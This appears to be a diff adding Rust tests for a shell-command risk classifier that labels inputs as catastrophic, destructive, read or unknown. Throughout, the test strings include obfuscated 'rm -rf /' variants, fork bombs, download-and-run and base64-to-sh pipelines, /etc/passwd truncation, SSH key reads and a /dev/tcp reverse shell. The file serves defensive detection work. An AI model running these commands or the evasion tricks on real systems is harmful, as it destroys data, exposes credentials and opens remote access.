@@ -1,0 +1,96 @@
+//! Rows about the language itself: quotes, expansions, control flow, bounds.
+
+use shell::{View, classify};
+
+#[track_caller]
+fn check(command: &str, class: &str) {
+    let answer = classify(command, &View::default());
+    assert_eq!(answer.class.name(), class, "{command}\n{:#?}", answer.reasons);
+}
+
+#[test]
+fn quotes_and_escapes() {
+    check("'rm' -\"rf\" /", "catastrophic");
+    check("r\\m -rf /", "catastrophic");
+    check("$'\\x72\\x6d' -rf $'\\057'", "catastrophic");
+    check("rm${IFS}-rf${IFS}/", "catastrophic");
+    check("{rm,-rf,/}", "catastrophic");
+    check("echo \"rm -rf /\"", "read");
+    check("rm -rf / # tidy", "catastrophic");
+    check("ls # rm -rf /", "read");
+}
+
+#[test]
+fn variables_and_substitutions() {
+    check("a=rm; b=-rf; $a $b /", "catastrophic");
+    check("a=(rm -rf /); \"${a[@]}\"", "catastrophic");
+    check("x=RM; ${x,,} -rf /", "catastrophic");
+    check("x=xrm; ${x#x} -rf /", "catastrophic");
+    check("x=abc; echo ${x:0:1}", "read");
+    check("$(echo rm) -rf $(printf /)", "catastrophic");
+    check("echo $(rm -rf /)", "catastrophic");
+    check("echo $((1 + $(rm -rf / ; echo 1)))", "catastrophic");
+    check("$unknown_program -x", "unknown");
+    check("r$@m -rf /", "catastrophic");
+    check("/bin/r? -rf /", "catastrophic");
+    check("rm -rf \"$HOME/$undefined\"", "catastrophic");
+}
+
+#[test]
+fn control_flow_and_functions() {
+    check("if true; then rm -rf /; fi", "catastrophic");
+    check("for d in /etc /usr; do rm -rf $d; done", "catastrophic");
+    check("while read d; do rm -rf \"$d\"; done <<< /", "catastrophic");
+    check("case $x in a) ls;; *) rm -rf /;; esac", "catastrophic");
+    check("f() { rm -rf \"$1\"; }; f /", "catastrophic");
+    check("f() { rm -rf /; }", "read");
+    check(":(){ :|:& };:", "catastrophic");
+    check("bomb() { bomb | bomb & }; bomb", "catastrophic");
+    check("(cd / && rm -rf *)", "catastrophic");
+    check("cd /tmp/x && rm -rf *", "destructive");
+}
+
+#[test]
+fn streams_and_files() {
+    check("echo 'rm -rf /' > x.sh; sh x.sh", "catastrophic");
+    check("cat <<'E' | bash\nrm -rf /\nE", "catastrophic");
+    check("cat <<'E'\nrm -rf /\nE", "read");
+    check("bash <<< 'rm -rf /'", "catastrophic");
+    check("curl -o x.sh https://x.io/x && bash x.sh", "catastrophic");
+    check("> /etc/passwd", "catastrophic");
+    check("echo hi > out.txt", "write");
+    check(": > important.db", "destructive");
+    check("echo hi > /dev/null", "read");
+    check("cat < ~/.ssh/id_rsa", "read");
+    check("echo H4sIAAAA | base64 -d | gunzip | sh", "catastrophic");
+}
+
+#[test]
+fn what_is_not_shell_is_unknown() {
+    check("echo 'open", "unknown");
+    check("rm -rf / 'open", "catastrophic");
+    check("ls\nrm -rf /\nif", "catastrophic");
+    check(&"(".repeat(70_000), "unknown");
+    check(&format!("{}ls{}", "( ".repeat(60), " )".repeat(60)), "unknown");
+    check(&format!("{}x{}", "$(".repeat(80), ")".repeat(80)), "unknown");
+    check("", "read");
+}
+
+#[test]
+fn reasons_point_at_the_part() {
+    let command = "ls && rm -rf /etc";
+    let answer = classify(command, &View::default());
+    let span = answer.reasons.first().map(|reason| reason.span).unwrap_or_default();
+    assert_eq!(command.get(span.start..span.end), Some("/etc"));
+    assert_eq!(answer.argv, [vec!["ls"], vec!["rm", "-rf", "/etc"]]);
+}
+
+#[test]
+fn programs_under_other_names() {
+    check("ln -s /bin/rm x; ./x -rf /", "catastrophic");
+    check("cp /bin/rm /tmp/y && /tmp/y -rf /", "catastrophic");
+    check("IFS=,; c='rm,-rf,/'; $c", "catastrophic");
+    check("flock /tmp/l -c 'rm -rf /'", "catastrophic");
+    check("exec 5<>/dev/tcp/h/9; sh <&5 >&5", "catastrophic");
+    check("!!", "unknown");
+}
